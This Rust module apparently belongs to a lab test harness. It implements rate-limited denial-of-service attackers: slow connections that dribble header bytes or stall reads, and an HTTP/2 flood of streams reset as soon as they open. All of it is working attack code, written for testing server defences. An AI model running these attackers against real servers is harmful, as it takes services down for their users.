//! The attackers: connections that send next to nothing and take nothing, and streams that are reset as soon as they are
//! opened. Each kind has one thread and a rate, so that the attackers do not take the machine from those they attack.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow};
use lab::frames::{END_STREAM, PREFACE, headers, reset, settings};

/// A byte of a head that never ends, on every connection.
const DRIBBLE_EVERY: Duration = Duration::from_secs(3);
/// Every so many slow connections take nothing of a large answer; the others dribble a head.
const READER_EVERY: usize = 20;
/// Connections of the flood of resets.
const RESET_CONNECTIONS: usize = 8;
/// Streams that are opened and reset in one write.
const BURST: u32 = 25;
/// How long a window may be full.
const STALL: Duration = Duration::from_secs(1);

/// An attack that is under way.
struct Attack {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Result<String>>,
}

impl Attack {
    fn start(attack: impl FnOnce(&AtomicBool) -> Result<String> + Send + 'static) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let told = Arc::clone(&stop);
        Self { stop, thread: thread::spawn(move || attack(&told)) }
    }

    fn stop(self) -> Result<String> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().map_err(|_| anyhow!("an attacker panicked"))?
    }
}

/// Many connections that each send or take next to nothing.
pub struct Slow(Attack);

impl Slow {
    /// Opens them all, and keeps as many open.
    pub fn start(to: SocketAddr, count: usize) -> Result<Self> {
        let open = |index: usize| slow_connection(to, index);
        let mut connections: Vec<TcpStream> = (0..count).map(open).collect::<Result<_>>()?;
        Ok(Self(Attack::start(move |stop| {
            let (mut cut, mut bytes) = (0_u64, 0_u64);
            let step = DRIBBLE_EVERY / u32::try_from(count.max(1)).unwrap_or(u32::MAX);
            let mut due = Instant::now();
            for index in (0..count).cycle() {
                if stop.load(Ordering::Relaxed) {
                    break;
                }
                due += step;
                thread::sleep(due.saturating_duration_since(Instant::now()));
                if index % READER_EVERY != 0 && !dribble(&mut connections[index]) {
                    connections[index] = slow_connection(to, index)?;
                    cut += 1;
                }
                bytes += 1;
            }
            Ok(format!("{count} connections, {bytes} bytes dribbled, {cut} cut and opened again"))
        })))
    }

    /// Closes them; says what they did.
    pub fn stop(self) -> Result<String> {
        self.0.stop()
    }
}

fn slow_connection(to: SocketAddr, index: usize) -> Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(10))
        .with_context(|| format!("slow connection {index}"))?;
    let start: &[u8] = if index.is_multiple_of(READER_EVERY) {
        b"GET /large HTTP/1.1\r\nHost: web\r\n\r\n"
    } else {
        b"GET / HTTP/1.1\r\nX: "
    };
    stream.write_all(start)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Sends a byte; false where the connection has been ended.
fn dribble(stream: &mut TcpStream) -> bool {
    let ended = match stream.read(&mut [0; 1024]) {
        Ok(_) => true,
        Err(error) => error.kind() != ErrorKind::WouldBlock,
    };
    !ended && stream.write(b"x").is_ok()
}

/// Streams that are reset at once.
pub struct Resets(Attack);

impl Resets {
    /// Sends so many a second over several connections, which are opened again when they are ended.
    pub fn start(to: SocketAddr, per_second: u32) -> Self {
        Self(Attack::start(move |stop| {
            let fields = [(":method", "GET"), (":scheme", "http"), (":authority", "web"), (":path", "/")];
            let pair = |stream: u32| [headers(stream, END_STREAM, &fields), reset(stream, 8)].concat();
            let mut connections: Vec<Option<(TcpStream, u32)>> =
                (0..RESET_CONNECTIONS).map(|_| None).collect();
            let (mut sent, mut ended) = (0_u64, 0_u64);
            let step = Duration::from_secs(1) * BURST / per_second.max(1);
            let mut due = Instant::now();
            for index in (0..RESET_CONNECTIONS).cycle() {
                if stop.load(Ordering::Relaxed) {
                    break;
                }
                due += step;
                thread::sleep(due.saturating_duration_since(Instant::now()));
                if connections[index].is_none() {
                    connections[index] = Some((reset_connection(to)?, 1));
                }
                let Some((stream, next)) = &mut connections[index] else { continue };
                let burst: Vec<u8> = (0..BURST).flat_map(|number| pair(*next + 2 * number)).collect();
                *next += 2 * BURST;
                if stream.write_all(&burst).is_err() || is_ended(stream) {
                    connections[index] = None;
                    ended += 1;
                }
                sent += u64::from(BURST);
            }
            Ok(format!("{sent} streams reset, {ended} connections ended and opened again"))
        }))
    }

    /// Ends it; says what it did.
    pub fn stop(self) -> Result<String> {
        self.0.stop()
    }
}

fn reset_connection(to: SocketAddr) -> Result<TcpStream> {
    let mut stream =
        TcpStream::connect_timeout(&to, Duration::from_secs(10)).context("the flood of resets")?;
    stream.write_all(&[PREFACE, &settings(&[])].concat())?;
    stream.set_write_timeout(Some(STALL))?;
    stream.set_read_timeout(Some(Duration::from_micros(1)))?;
    Ok(stream)
}

/// Reads what there is; whether that was the end.
fn is_ended(stream: &mut TcpStream) -> bool {
    loop {
        match stream.read(&mut [0; 16 * 1024]) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => return !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
        }
    }
}
